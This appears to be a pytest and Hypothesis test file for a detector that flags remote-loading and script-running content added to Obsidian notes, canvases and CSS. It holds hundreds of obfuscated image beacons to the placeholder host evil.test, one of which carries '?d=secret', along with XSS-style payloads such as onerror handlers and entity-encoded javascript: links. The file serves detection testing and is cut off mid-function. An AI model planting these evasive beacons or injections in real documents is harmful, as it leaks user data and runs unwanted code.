"""Content that loads or runs in a change: spellings of users and attackers, and harmless ones."""

from __future__ import annotations

import html
import json
import random
import time
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from obsidian_agent.plan.active_content import MAX_PARSED, ActiveContent, added_content
from obsidian_agent.plan.active_markdown import (
    ActiveFindings,
    TooComplex,
    is_quiet,
    read_markdown,
    read_markup,
)

URL = "https://evil.test/p.png"

LOADING = {
    "plain": "![x](https://evil.test/p.png)",
    "brackets": "![a [b] c](https://evil.test/p.png)",
    "indented ref": "![x][r]\n\n   [r]: https://evil.test/p.png\n",
    "ref in quote": "> ![x][r]\n>\n> [r]: https://evil.test/p.png\n",
    "entities": "![x](&#104;ttps://evil.test/p.png)",
    "srcset": '<img srcset="a.png 1x, https://evil.test/p.png 2x">',
    "poster": '<video poster="https://evil.test/p.png"></video>',
    "source": '<video><source src="https://evil.test/p.png"></video>',
    "svg image": '<svg><image href="https://evil.test/p.png"/></svg>',
    "svg use": '<svg><use xlink:href="https://evil.test/p.png#a"/></svg>',
    "css url": '<div style="background:url(https://evil.test/p.png)">x</div>',
    "css escape": '<div style="background:\\75rl(\\68ttps://evil.test/p.png)">x</div>',
    "style el": "<style>@import 'https://evil.test/p.png';</style>",
    "unquoted": "<img src=https://evil.test/p.png>",
    "newline in tag": "<img\n  alt='x'\n  src='https://evil.test/p.png'>",
    "gt in alt": '<img alt=">" src="https://evil.test/p.png">',
    "no slashes": "![x](https:evil.test/p.png)",
    "backslashes": '<img src="https:\\\\evil.test/p.png">',
    "proto rel": "![x](//evil.test/p.png)",
    "tab in url": '<img src="ht\ttps://evil.test/p.png">',
    "angle": "![x](<https://evil.test/p.png>)",
    "title": '![x](https://evil.test/p.png "t")',
    "newline dest": "![x](\nhttps://evil.test/p.png\n)",
    "iframe srcdoc": '<iframe srcdoc="<img src=https://evil.test/p.png>"></iframe>',
    "iframe srcdoc ent": '<iframe srcdoc="&lt;img src=https://evil.test/p.png&gt;"></iframe>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/p.png">',
    "link css": '<link rel=stylesheet href="https://evil.test/p.png">',
    "body bg": '<table background="https://evil.test/p.png">',
    "quote tag": '> <img\n> src="https://evil.test/p.png">',
    "object": '<object data="https://evil.test/p.png">',
    "after unclosed comment": "a <!-- b\n\n![x](https://evil.test/p.png)",
    "after open quote": '<a title="\n\n<img src="https://evil.test/p.png">',
    "textarea": "<textarea>\n\n<img src='https://evil.test/p.png'>",
    "math fence": "$$\n```\n$$\n\n![x](https://evil.test/p.png)\n",
    "comment fence": "%%\n```\n%%\n\n![x](https://evil.test/p.png)\n",
    "math tick": "$`$ ![x](https://evil.test/p.png) $`$",
    "table tick": "| a | b |\n|---|---|\n| ` | ![x](https://evil.test/p.png) | ` |",
    "indented code": "    ![x](https://evil.test/p.png)",
    "tab code": "\t<img src='https://evil.test/p.png'>",
    "list": "- a\n    - b\n\n            ![x](https://evil.test/p.png)",
    "callout": "> [!note]- T\n> ![x](https://evil.test/p.png)",
    "nested": "> > - > 1. ![x](https://evil.test/p.png)",
    "ad block": "```ad-note\n![x](https://evil.test/p.png)\n```",
    "dataview str": '```dataview\nLIST "![x](https://evil.test/p.png)"\n```',
    "leaflet": "```leaflet\ntileServer: https://evil.test/p.png\n```",
    "frontmatter banner": "---\nbanner: https://evil.test/p.png\n---\n",
    "fm html": "---\na: \"<img src='https://evil.test/p.png'>\"\n---\n",
    "fm yaml esc": '---\ncover: "\\u0068ttps://evil.test/p.png"\n---\n',
    "wiki": "![[https://evil.test/p.png]]",
    "spaces": "![x](https://evil.test/a b.png)",
    "picture": "<picture><source srcset='https://evil.test/p.png'></picture>",
    "case": "![x](HTTPS://evil.test/p)",
    "ftp": "![x](ftp://evil.test/p)",
    "userinfo": "![x](https://a@evil.test/p)",
    "collapsed ref": "![r][]\n\n[r]: https://evil.test/p.png",
    "shortcut": "![r]\n\n[r]: <https://evil.test/p.png>",
    "ref multi-line": "![r]\n\n[r]:\n   https://evil.test/p.png\n   't'",
    "inline dql": '`= "![x](https://evil.test/p.png)"`',
    "linked image": "[![x](https://evil.test/p.png)](a.md)",
    "img slash": "<img/src='https://evil.test/p.png'/>",
    "upper": "<IMG SRC='https://evil.test/p.png'>",
    "mask": "<div style='mask-image:image-set(\"https://evil.test/p.png\" 1x)'>",
    "var": "<div style='--a:url(\"https://evil.test/p.png\")'>",
    "css comment": "<div style='background:ur/**/l(https:/*x*///evil.test/p)'>",
    "svg anim": "<svg><animate attributeName=href values='https://evil.test/p.png'/></svg>",
    "ping": "<a ping='https://evil.test/p.png'>",
    "audio": "<audio src='https://evil.test/p.png'>",
    "embed": "<embed src='https://evil.test/p.png'>",
    "input": "<input type=image src='https://evil.test/p.png'>",
    "base": "<base href='https://evil.test/'>",
    "codespan 2 lines": "<div>\n```\n</div>\n\n![x](https://evil.test/p.png)",
}

RUNNING = {
    "dvjs": "```dataviewjs\nx\n```",
    "callout": "> [!x]\n> ```dataviewjs\n> x\n> ```",
    "list": "- a\n  ```dataviewjs\n  x\n  ```",
    "list1": "- ```dataviewjs\n  x\n  ```",
    "4": "````dataviewjs\nx\n````",
    "tilde": "~~~dataviewjs\nx\n~~~",
    "indent": "    ```dataviewjs\n    x\n    ```",
    "attr": "``` {.dataviewjs}\nx\n```",
    "space": "```   dataviewjs foo\nx\n```",
    "entity": "```data&#118;iewjs\nx\n```",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload": "<svg/onload=alert(1)>",
    "ONCLICK": "<p ONCLICK='a()'>",
    "jslink": "[a](javascript:alert(1))",
    "jsent": "[a](java&#115;cript:alert(1))",
    "jstab": "<a href='java\tscript:alert(1)'>",
    "jsref": "[a][r]\n\n[r]: javascript:alert(1)",
    "jsauto": "<javascript:alert(1)>",
    "templater": "<% tp %>",
    "tp*": "<%* tp %>",
    "tpfence": "```md\n<% tp %>\n```",
    "dv": "`$= dv.x`",
    "dv2": "``$= dv.x``",
    "script": "<script>x</script>",
    "data": "<iframe src='data:text/html,<script>'>",
    "button": "```button\nname x\n```",
    "mb": "`BUTTON[x]`",
    "mbb": "```meta-bind-button\nx\n```",
    "adv": "[x](obsidian://adv-uri?eval=x)",
    "run": "```run-python\nx\n```",
    "qa": "```js quickadd\nx\n```",
    "jse": "```js-engine\nx\n```",
    "mbjs": "```meta-bind-js-view\nx\n```",
    "dcjsx": "```datacorejsx\nx\n```",
}

CANVASES = {
    "esc": '{"nodes":[{"type":"link","url":"https:\\/\\/evil.test\\/a"}]}',
    "u": '{"nodes":[{"type":"link","url":"\\u0068ttps://evil.test/a"}]}',
    "text": '{"nodes": [{"type": "text", "text": "![x](\\u0068ttps://evil.test/p.png)"}]}',
    "bg": '{"nodes": [{"type": "group", "background": "https://evil.test/p.png"}]}',
    "broken": '{"nodes":[{"type":"link","url":"https:\\/\\/evil.test\\/a"}',
}

OTHER_FILES = {
    "html": ("a.html", "<img src=https://evil.test/p.png>"),
    "css": ("a.css", "@import url(https://evil.test/p.png)"),
    "base": ("a.base", 'formulas:\n  a: image("https://evil.test/p.png")\n'),
    "svg": ("a.svg", "<svg><image href='https://evil.test/p.png'/></svg>"),
    "entity": (
        "a.svg",
        "<!DOCTYPE s [<!ENTITY e 'https://evil.test/p.png'>]><svg><image href='&e;'/></svg>",
    ),
}

HARMLESS = {
    "link": "[a](https://evil.test/p.png)",
    "auto": "<https://evil.test/p.png>",
    "bare": "https://evil.test/p.png",
    "code": "`![x](https://evil.test/p.png)`",
    "fence": "```md\n![x](https://evil.test/p.png)\n<img src='https://evil.test/p.png'>\n```",
    "html a": "<a href='https://evil.test/p.png' title='https://evil.test/p.png'>x</a>",
    "escaped": "\\![x](https://evil.test/p.png)",
    "embed": "![[a.png|100]] ![[b]]",
    "local": "![x](a/b.png)",
    "def": "[a][r]\n\n[r]: https://evil.test/p.png",
    "source prop": "---\nsource: https://evil.test/p.png\n---\ntext",
    "prose": "JavaScript: the good parts; on error = x; a // b; 10:30",
    "py": "```python\nx\n```",
    "html ok": "<b>x</b> <br> <span style='color:red'>y</span>",
    "ent tag": "&lt;img src=https://evil.test/p.png&gt;",
    "dataview": "```dataview\nTABLE a FROM b\n```",
    "mermaid": "```mermaid\ngraph TD\nA-->B\n```",
    "kbd": "<kbd>Ctrl</kbd>",
    "tasks": "```tasks\nnot done\n```",
    "obs": "[x](obsidian://open?vault=a)",
    "lt": "a < b and c > d",
    "math": "$a<b$ and $$x$$",
}

LATER = [
    ("load", "a.md", "![x][ r\n s ]\n\n[R S]: https://evil.test/p.png"),
    ("load", "a.md", "| a |\n|---|\n| ![x\\|100](https://evil.test/p.png) |"),
    ("load", "a.md", "~~~~ad-warning\ntitle: x\n\n![x](https://evil.test/p.png)\n~~~~"),
    ("load", "a.md", "> [!quote] <img src=https://evil.test/p.png>"),
    ("load", "a.md", "# Head ![x](https://evil.test/p.png)"),
    ("load", "a.md", "==![x](https://evil.test/p.png)== and ***![y](https://evil.test/p.png)***"),
    ("load", "a.md", "<details open><summary>![x](https://evil.test/p.png)</summary></details>"),
    (
        "load",
        "a.md",
        "<details>\n<summary>a</summary>\n\n- [ ] ![x](https://evil.test/p.png)\n</details>",
    ),
    ("load", "a.md", "^[inline footnote ![x](https://evil.test/p.png)]"),
    ("load", "a.md", '<img src="&#x68;&#116;tps&colon;&sol;&sol;evil.test&sol;p.png">'),
    ("load", "a.md", '<img src="https&colon;evil.test/p">'),
    ("load", "a.md", "![x](https&colon;//evil.test/p)"),
    ("load", "a.md", "![x](/\\evil.test/p)"),
    ("load", "a.md", "<img src='\\/\\/evil.test/p'>"),
    ("load", "a.md", "<svg><filter><feImage href='https://evil.test/p.png'/></filter></svg>"),
    ("load", "a.md", "<svg><style>circle{fill:url(https://evil.test/p.png)}</style></svg>"),
    (
        "load",
        "a.md",
        "<svg><foreignObject><img src='https://evil.test/p.png'></foreignObject></svg>",
    ),
    (
        "load",
        "a.md",
        "<math href='https://evil.test/p.png'><mglyph src='https://evil.test/p.png'/></math>",
    ),
    ("load", "a.md", "<link rel=preload as=image imagesrcset='https://evil.test/p.png 1x'>"),
    ("load", "a.md", "<div style=\"content:image-set('\\68 ttps://evil.test/a' 1x)\">"),
    ("load", "a.md", "<div style='list-style:u\\72l(https:evil.test/a)'>"),
    ("load", "a.md", "<track src='https://evil.test/p.png' default>"),
    ("load", "a.md", "<form action='https://evil.test/p.png'><button>x</button></form>"),
    ("load", "a.md", "<portal src='https://evil.test/p.png'></portal>"),
    ("load", "a.md", "<img src='wss://evil.test/'>"),
    ("load", "a.md", "![x](file://evil.test/share/p.png)"),
    ("load", "a.md", "![x](file:////evil.test/share/p.png)"),
    ("load", "a.md", "%%\n![x](https://evil.test/p.png)\n%%"),
    ("load", "a.md", '`= embed(link("https://evil.test/p.png"))`'),
    ("load", "a.md", '```dataview\nTABLE "<img src=\'https://evil.test/p.png\'>" FROM "x"\n```'),
    ("load", "a.md", "```mermaid\ngraph TD\nA[\"<img src='https://evil.test/p.png'>\"]\n```"),
    ("load", "a.md", "```base\nviews:\n  - image: https://evil.test/p.png\n```"),
    ("load", "a.md", "---\naliases: ['<img src=https://evil.test/p.png>']\n---\n"),
    ("load", "a.md", "---\ncover: >-\n  https:\n---\n![a](https://evil.test/p.png)"),
    ("load", "a.md", "---\nbanner_src: 'https://evil.test/p.png'\n---\n"),
    ("load", "a.md", "`INPUT[image(default(https://evil.test/p.png)):x]`"),
    ("load", "a.md", "\ufeff![x](https://evil.test/p)"),
    ("load", "a.md", "![x](<https://evil.test/p.png\\>>)"),
    ("load", "a.md", "![x](https://evil.test/p.png\n'title\nmore')"),
    ("load", "a.md", "$a`b$ <img src='https://evil.test/p.png'> $c`d$"),
    ("load", "a.md", "Text\\\n![x](https://evil.test/p.png)"),
    ("load", "a.md", "<!-- c --> ![x](https://evil.test/p.png)"),
    ("load", "a.md", "<pre>\n![x](https://evil.test/p.png)\n</pre>"),
    ("load", "a.md", "<pre><code>\n<img src='https://evil.test/p.png'>\n</code></pre>"),
    (
        "load",
        "b.canvas",
        '{"nodes": [{"type": "text", "text": "<img src=\'https://evil.test/p.png\'>"}]}',
    ),
    ("load", "b.canvas", '{"nodes": [{"type": "link", "url": "\\thttps:\\\\\\\\evil.test"}]}'),
    (
        "load",
        "b.canvas",
        '{"nodes": [{"type": "text", "text": "---\\nbanner: https://evil.test/p.png\\n---"}]}',
    ),
    ("load", "b.canvas", '\ufeff{"nodes": [{"type": "link", "url": "https://evil.test/p.png"}]}'),
    ("load", "c.base", "formulas:\n  a: 'html(\"<img src=https://evil.test/x>\")'\n"),
    ("load", "c.base", 'formulas:\n  a: image("ht" + "tps://evil.test")\n'),
    ("load", "c.css", '@import"https:evil.test/a.css";'),
    ("load", "c.css", "a{b:\\55 RL( '//evil.test/x' )}"),
    ("load", "d.excalidraw.md", '```json\n{"elements":[{"link":"https://evil.test"}]}\n```'),
    ("load", "d.excalidraw", '{"elements":[{"type":"embeddable","link":"https://evil.test"}]}'),
    ("load", "d.svg", "<?xml-stylesheet href='https://evil.test/p.png'?><svg/>"),
    ("code", "a.md", "> - > ~~~~  dataviewjs\n>   > x\n>   > ~~~~"),
    ("code", "a.md", "1) ```DataviewJS\n   x\n   ```"),
    ("code", "a.md", "> [!x] T\n>> ```dataviewjs\n>> x"),
    ("code", "a.md", "``` `$= dv` ```\n\n``$=dv.x ``"),
    ("code", "a.md", "a `  $= dv.x` b"),
    ("code", "a.md", "<body/onpageshow=a()>"),
    ("code", "a.md", "<svg><animate onbegin=a() attributeName=x dur=1s>"),
    ("code", "a.md", "<details ontoggle=a() open>"),
    ("code", "a.md", "<a href='&#106;avascript:a()'>"),
    ("code", "a.md", '<a href="\x01javascript:a()">'),
    ("code", "a.md", "<a href='java&Tab;script:a()'>"),
    ("code", "a.md", "<a href='java&NewLine;script&colon;a()'>"),
    ("code", "a.md", "[a](<javascript:a()>)"),
    ("code", "a.md", "[a](  javascript&#58;a() )"),
    ("code", "a.md", "[a](JaVaScRiPt\\:a)"),
    ("code", "a.md", "<form action='javascript:a()'>"),
    ("code", "a.md", "<iframe srcdoc='<script>a()</script>'>"),
    ("code", "a.md", "<iframe srcdoc='&lt;img src=x onerror=a()&gt;'>"),
    ("code", "a.md", "<object data='data:text/html;base64,PHN2Zz4='>"),
    ("code", "a.md", "<embed src='data:image/svg+xml,<svg onload=a()>'>"),
    ("code", "a.md", "<math><maction xlink:href='javascript:a()'>"),
    ("code", "a.md", "<script>a()"),
    ("code", "a.md", "<SCRIPT\n>a()"),
    ("code", "a.md", "---\na: '<% tp %>'\n---\n"),
    ("code", "a.md", "<%_ tp _%>"),
    ("code", "a.md", "<%+ tp %>"),
    ("code", "a.md", "```js-engine-debug\nx\n```"),
    ("code", "a.md", "```meta-bind-js-view\nx\n```"),
    ("code", "a.md", "```jsx:component:X\nx\n```"),
    ("code", "a.md", "- [x] ```dataviewjs\n  x\n  ```"),
    ("code", "a.md", "[^n]: ```dataviewjs\n    x\n    ```"),
    ("code", "a.md", "[run](obsidian://shell-commands/?execute=x)"),
    ("code", "a.md", "<a href='obsidian://adv-uri?commandid=x'>"),
    ("code", "b.canvas", '{"nodes": [{"type": "text", "text": "`\\u0024= dv.x`"}]}'),
    ("code", "b.canvas", '{"nodes": [{"type": "text", "text": "\\u003c% tp %>"}]}'),
    ("code", "b.canvas", '{"nodes": [{"type": "link", "url": "javascript:a()"}]}'),
    ("code", "tool.js", "x"),
    ("code", "a.md", "%%\n```dataviewjs\nx\n```\n%%"),
    ("code", "a.md", "``````dataviewjs\nx\n``````"),
    ("code", "a.md", "<input autofocus onfocus=a()>"),
    ("code", "a.md", "<x onclick=a()>y</x>"),
    ("code", "a.md", "<img src=x onerror\n=\na()>"),
    ("code", "a.md", "<img src=x on&#101;rror=a() onerror=b()>"),
]
"""Spellings that were invented when the reader was done."""


def formula(text: str) -> tuple[str, str]:
    return "a.base", f"formulas:\n  a: {json.dumps(text)}\n"


UNNAMED = {
    "joined": formula('image(["https:","","evil","x"].join("/"))'),
    "from a formula": formula('image(formula.b + "/x")'),
    "a formula alone": formula("image(formula.b)"),
    "reversed": formula('image("gnp.x/live//:sptth".split("").reverse().join(""))'),
    "html of a property and text": formula('html("<img src=" + note.u + ">")'),
    "the value of a loop": formula('["//evil"].map(image(value))'),
    "case and blanks": formula('IMAGE \n ( lower("HTTPS://EVIL") )'),
    "comment": formula("image/* x */(a.b())"),
    "brackets": formula('(image)(a.concat("x"))'),
    "escaped name": formula(r'im\u0061ge(a.replace("x","y"))'),
    "escaped literal": formula(r'image("\x68ttps:\x2f/evil")'),
    "choice": formula('if(true, image(if(a, "ht", "x")))'),
    "computed key": formula("html(list[value])"),
    "folded": ("a.base", 'formulas:\n  a: >-\n    image(\n      ["a"]\n      .join(""))\n'),
    "picture of a view": ("a.base", "formulas:\n  p: x.y()\nviews:\n  - image: formula.p\n"),
    "no yaml": ("a.base", "formulas: [\n  a: image(x.y())\n"),
    "filter": ("a.base", "filters:\n  and:\n    - image(a+b)\n"),
    "block": ("a.md", '```base\nformulas:\n  a: image(["a"].join(""))\n```'),
    "block in a quote": ("a.md", '> ```base\n> formulas:\n>   a: image(["a"].join(""))\n> ```'),
    "large base": ("a.base", f"x: {'a' * MAX_PARSED}\nformulas:\n  a: image(b.c())\n"),
    "style": ("a.md", "$\\style{background:url(https://evil/p)}{x}$"),
    "style without a dot": ("a.md", "$$\n\\style{background:url(//evil)}{x}\n$$"),
    "bbox": ("a.md", "text $\\bbox[background:url(//evil)]{x}$"),
    "style in a macro": ("a.md", "$\\def\\a#1{\\style{background:#1}{x}}$"),
    "attributes": ("a.md", '$\\mmlToken{mi}[style="background:url(//e)"]{x}$'),
    "style beside code": ("a.md", "$a`b \\style{background:url(//e)}{x} c`d$"),
    "style in a table": ("a.md", "|a|\n|-|\n|$\\style{background:url(//e)}{x}$|"),
    "style on a canvas": ("a.canvas", '{"nodes":[{"type":"text","text":"$\\\\style{b}{x}$"}]}'),
    "name of a command": ("a.md", "$\\csname sty\\endcsname$"),
    "large note": ("a.md", "word " * (MAX_PARSED // 5) + "$\\style{b:url(//e)}{x}$"),
    "url": ("a.md", "<div style='background:url(//evil)'>"),
    "url in quotes": ("a.md", "<div style='background:url(\"//evil/p\")'>"),
    "css escapes": ("a.md", "<div style='background:url(\\2f\\2f evil)'>"),
    "css line end": ("a.md", "<div style='background:url(\"/\\a /evil\")'>"),
    "css backslash": ("a.css", "a{b:url(/\\\\evil)}"),
    "import": ("a.css", "@import '//evil';"),
    "srcset": ("a.md", "<img srcset='a.png 1x, //evil/p 2x'>"),
    "svg attribute": ("a.md", "<svg><rect fill='url(//evil#a)'/></svg>"),
    "escapes in one": ("a.md", "<svg><rect fill='u\\72l(\\2f \\2f evil)'/></svg>"),
    "number": ("a.md", "<p style='b:url(//2130706433)'>"),
    "ipv6": ("a.md", "<p style='b:url(//[::1]/x)'>"),
    "refresh": ("a.md", "<meta http-equiv=refresh content='0;url=//evil/'>"),
    "mermaid": ("a.md", "```mermaid\n%%{init:{'themeCSS':'a{b:url(//evil)}'}}%%\n```"),
}
PLAIN = {
    "property": formula("image(note.cover)"),
    "property alone": formula("if(cover, image(cover))"),
    "property in quotes": formula('image(note["my cover"])'),
    "item": formula("image(file.embeds[0])"),
    "literal": formula('image("Attachments/a.png")'),
    "html": formula('html("<b>x</b>")'),
    "property of that name": formula('image.isEmpty() && note.image == ""'),
    "regular expression": formula(r'file.name.replace(/\d\d/, "")'),
    "path": formula('file.path + "/" + file.name'),
    "view": ("a.base", "views:\n  - type: cards\n    image: note.cover\n"),
    "formula": ("a.md", "$\\frac{a}{b}$ $$\\mathbf{x}$$ $\\displaystyle x$ a // b"),
    "comment": ("a.md", "```rust\n//comment\n```"),
    "link": ("a.md", "<a href='//host/x' title='//x'>x</a> and //host"),
}


@pytest.mark.parametrize("name", UNNAMED)
def test_what_is_computed_or_names_a_host_without_a_dot_is_marked(name: str) -> None:
    path, text = UNNAMED[name]
    assert added(text, path=path).hosts


@pytest.mark.parametrize("name", PLAIN)
def test_a_property_a_literal_and_plain_formulas_are_not_marked(name: str) -> None:
    path, text = PLAIN[name]
    assert added(text, path=path) == ActiveContent()


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("a.base", "formulas:\n  p: note.a\n  q: image(formula.p)\n", "p: note.a=p: x.y()"),
        ("a.md", "$\\def\\s#1{\\style{#1}{x}}$\n\nend", "end=$\\s{b:url(//evil)}$"),
    ],
)
def test_what_a_computed_address_comes_from_counts(path: str, before: str, after: str) -> None:
    old, new = after.split("=", 1)
    assert added(before.replace(old, new), before, path).hosts
    assert added(before, before, path) == ActiveContent()


def test_a_computed_address_is_shown_by_its_formula() -> None:
    path, text = UNNAMED["folded"]
    assert added(text, path=path).hosts == ('(computed by image( ["a"] .join("")))',)


def test_a_computed_address_is_shown_once_and_without_what_follows() -> None:
    text = "formulas:\n  p: 'image(\"https://a/\" + x)'\nviews:\n  - type: table\n"
    assert added(text, path="a.base").hosts == ('(computed by image("https://a/" + x))', "a")


def test_many_computed_addresses_take_little_time_and_memory() -> None:
    calls = " ".join(f"image(a{number}(" for number in range(12_000))
    started = time.process_time()
    assert added(f"a: {calls}", path="a.base").hosts
    assert time.process_time() - started < 6


def added(text: str, before: str = "", path: str = "a.md") -> ActiveContent:
    return added_content(path, text.encode(), before.encode)


def loads(found: ActiveContent) -> bool:
    return any("evil.test" in host for host in found.hosts)


@pytest.mark.parametrize("name", LOADING)
def test_what_loads_is_seen_in_every_spelling(name: str) -> None:
    assert loads(added(LOADING[name]))


@pytest.mark.parametrize("name", RUNNING)
def test_what_runs_is_seen_in_every_spelling(name: str) -> None:
    assert added(RUNNING[name]).code


@pytest.mark.parametrize("name", CANVASES)
def test_json_escapes_in_a_canvas_hide_nothing(name: str) -> None:
    assert loads(added(CANVASES[name], path="a.canvas"))


@pytest.mark.parametrize("name", OTHER_FILES)
def test_other_files_that_obsidian_shows_are_read_in_their_own_language(name: str) -> None:
    path, text = OTHER_FILES[name]
    assert loads(added(text, path=path))


@pytest.mark.parametrize("name", HARMLESS)
def test_links_code_examples_and_plain_words_are_not_flagged(name: str) -> None:
    assert added(HARMLESS[name]) == ActiveContent()


def test_a_code_card_on_a_canvas_is_seen() -> None:
    assert added(
        json.dumps({"nodes": [{"type": "text", "text": "> ```dataviewjs\n> x\n> ```"}]}),
        path="a.canvas",
    ).code


@pytest.mark.parametrize(("kind", "path", "text"), LATER)
def test_spellings_that_were_invented_later_are_seen(kind: str, path: str, text: str) -> None:
    found = added(text, path=path)
    assert found.hosts if kind == "load" else found.code


# --- what counts is the result ---


@pytest.mark.parametrize("text", [*LOADING.values(), *RUNNING.values()])
def test_the_character_that_completes_it_is_seen_like_the_whole(text: str) -> None:
    """Of two edits that together write a text, one adds all active content of that text."""
    loading = text in LOADING.values()
    for cut in range(len(text) + 1):
        first, second = added(text[:cut]), added(text, text[:cut])
        if loading:
            # Cut inside an address, the first part may load from a shorter name.
            assert loads(second) or loads(first), cut
        else:
            assert second.code or first.code, cut


@pytest.mark.parametrize("text", [*LOADING.values(), *RUNNING.values()])
def test_what_was_there_before_is_not_flagged_again(text: str) -> None:
    assert added(text, text) == ActiveContent()
    assert added_content("new.md", text.encode(), text.encode, "old.md") == ActiveContent()


@pytest.mark.parametrize("text", ["![x]({})", "<img src={}>"])
@pytest.mark.parametrize(
    "scheme",
    [
        "http:",
        "https:",
        "WS:",
        "wss:",
        "ftp:",
        "ftps:",
        "/\\",
        "javascript:",
        "vbscript:",
        "data:text/html,",
        "obsidian:",
    ],
)
def test_what_has_a_scheme_needs_no_slashes(text: str, scheme: str) -> None:
    found = added(text.format(f"{scheme}e.x"))
    assert (
        found.code
        if scheme.startswith(("java", "vb", "data", "obsidian"))
        else found.hosts == ("e.x",)
    )


def test_a_second_address_at_a_host_that_is_there_already_is_flagged() -> None:
    before = "![x](https://evil.test/a)\n"
    assert loads(added(before + "![x](https://evil.test/?d=secret)\n", before))


def test_a_deleted_fence_that_frees_an_image_is_flagged() -> None:
    inside = f"```md\n![x]({URL})\n```\n"
    assert not loads(added(inside))
    assert loads(added(inside.replace("```md\n", ""), inside))


def test_an_image_that_uses_a_definition_from_before_is_flagged() -> None:
    before = f"[a link][r]\n\n[r]: {URL}\n"
    assert loads(added(before + "\n![x][r]\n", before))


def test_another_name_can_make_code_of_what_was_data() -> None:
    assert added_content("a.js", b"app.x()", lambda: b"app.x()", "a.txt").code


# --- law: containers hide nothing ---


def _prefixed(first: str, others: str) -> Callable[[str], str]:
    def wrap(text: str) -> str:
        lines = text.split("\n")
        return "\n".join([first + lines[0], *(others + line for line in lines[1:])])

    return wrap


CONTAINERS: dict[str, Callable[[str], str]] = {
    "quote": _prefixed("> ", "> "),
    "callout": lambda text: "> [!note]- Title\n" + _prefixed("> ", "> ")(text),
    "list": _prefixed("- ", "  "),
    "task": _prefixed("- [ ] ", "  "),
    "ordered list": _prefixed("1. ", "   "),
    "indented": _prefixed("    ", "    "),
    "tab": _prefixed("\t", "\t"),
    "after words": lambda text: f"Some words.\n\n{text}",
    "before words": lambda text: f"{text}\n\nSome words.",
    "after a heading": lambda text: f"# Title\n\n{text}",
    "after a closed fence": lambda text: f"```py\nx = 1\n```\n\n{text}",
    "after a comment": lambda text: f"%%\n```\n%%\n\n{text}",
    "after a formula": lambda text: f"$$\n```\n$$\n\n{text}",
    "after an open quote": lambda text: f'<a title="\n\n{text}',
    "below properties": lambda text: f"---\ntags: [a]\n---\n{text}",
    "windows": lambda text: text.replace("\r\n", "\n").replace("\n", "\r\n"),
    "footnote": _prefixed("[^1]: ", "    "),
}
SIMPLE_LOADING = [
    f"![x]({URL})",
    f"![a [b] c]({URL})",
    f"![x]( <{URL}> 'title' )",
    f"<img src='{URL}'>",
    f"<img\nalt='>' src={URL}>",
    f"<video poster='{URL}'></video>",
    f"<picture><source srcset='a 1x, {URL} 2x'></picture>",
    f"<svg><image href='{URL}'/></svg>",
    f"<p style='background:url({URL})'>x</p>",
    f"words [![x]({URL})](a.md) words",
]
SIMPLE_RUNNING = [
    "```dataviewjs\nx\n```",
    "````dataviewjs\nx\n````",
    "~~~js-engine\nx\n~~~",
    "`$= dv.current()`",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert)",
    "<% tp.x %>",
    "<script>x</script>",
]


@example(["callout", "below properties", "footnote"], SIMPLE_LOADING[4])
@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(sorted(CONTAINERS)), max_size=4),
    st.sampled_from(SIMPLE_LOADING + SIMPLE_RUNNING),
)
def test_containers_hide_nothing(names: list[str], construct: str) -> None:
    text = construct
    for name in names:
        text = CONTAINERS[name](text)
    found = added(text)
    assert loads(found) if construct in SIMPLE_LOADING else found.code, text


PIECES = """```|~~~|````|dataview|dataviewjs|bash|js|{.bash}|Bash|TXT |\n|\n\n|\t| |![|](|http://e.x/y|//e.x|\
https:\n//e|<img src=|onerror=|<x|<style>|<a href=|>|x>|<a b/c|](<b c.md>)|src=//e.x>|[t](y>z)|`|`=|`$= x`|[[a]]|![[http://x.y]]|- |\
> |[^1]: |[x]: |<%|%>|$$|%%|<!--|-->|&#47;|\\|script:|view[|button[|banner: |---\n|url(//e.x)|(|"|'"""


@example("``````~~~```[t](y>z)dataviewjs")
@example("```dataview`dataview`dataviewjs")
@settings(max_examples=1_000, deadline=None)
@given(st.lists(st.sampled_from(PIECES.split("|")), max_size=14).map("".join))
def test_what_a_quick_look_leaves_unread_has_nothing_in_it(text: str) -> None:
    found = ActiveFindings()
    if is_quiet(text):
        read_markdown(text, found)
    assert not found.remote
    assert not found.code


@given(
    st.randoms(use_true_random=False),
    st.sampled_from(
        ["![x]({})", "<img src='{}'>", "![x][r]\n\n[r]: {}", "<p style='background:url({})'>"]
    ),
)
def test_entities_hide_nothing(chance: random.Random, construct: str) -> None:
    url = "".join(chance.choice([char, f"&#{ord(char)};", f"&#x{ord(char):x};"]) for char in URL)
    assert html.unescape(url) == URL
    assert loads(added(construct.format(url)))


@settings(deadline=None)
@given(st.randoms(use_true_random=False))
def test_json_escapes_hide_nothing(chance: random.Random) -> None:
    for card in (
        {"type": "link", "url": URL},
        {"type": "text", "text": f"![x]({URL})"},
        {"type": "group", "background": URL},
    ):
        text = json.dumps({"nodes": [card]})
        start = text.index("https")
        hidden = "".join(chance.choice([char, f"\\u{ord(char):04x}"]) for char in URL).replace(
            "/", "\\/"
        )
        assert loads(added(text[:start] + hidden + text[start + len(URL) :], path="a.canvas"))


# --- limits ---


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "<a b='", "`", "> ", ">", "&", "\n", "[x][", "<% ", "image ", "$`", "```x\n"],
)
def test_a_text_made_to_be_slow_is_read_in_time_and_hides_nothing(unit: str) -> None:
    text = f"![x]({URL})\n\n" + unit * (60_000 // len(unit))
    started = time.process_time()
    assert loads(added(text))
    assert time.process_time() - started < 6


def test_what_is_too_large_to_be_read_closely_shows_too_much_rather_than_too_little() -> None:
    words = "words " * (MAX_PARSED // 6) + "\n"
    before = f"{words}![x]({URL}"
    assert loads(added(before + ")", before))
    assert loads(added(f"{words}<img src='&#104;ttps://evil.test'>", words))
    assert added(f"{words}\n```dataviewjs\nx\n```", words).code
    assert added(words + "and some more words", words) == ActiveContent()
    assert added(before + " more words", before) == ActiveContent()


def test_deep_nesting_hides_nothing() -> None:
    assert loads(added("> " * 300 + f"![x]({URL})"))
    assert loads(added("![" * 300 + f"![x]({URL})" + "](a.png)" * 300))


@pytest.mark.parametrize("tag", [b"<script>", b"<style>"])
def test_tags_that_are_all_open_at_once_are_told_without_reading_the_text_once_for_each(
    tag: bytes,
) -> None:
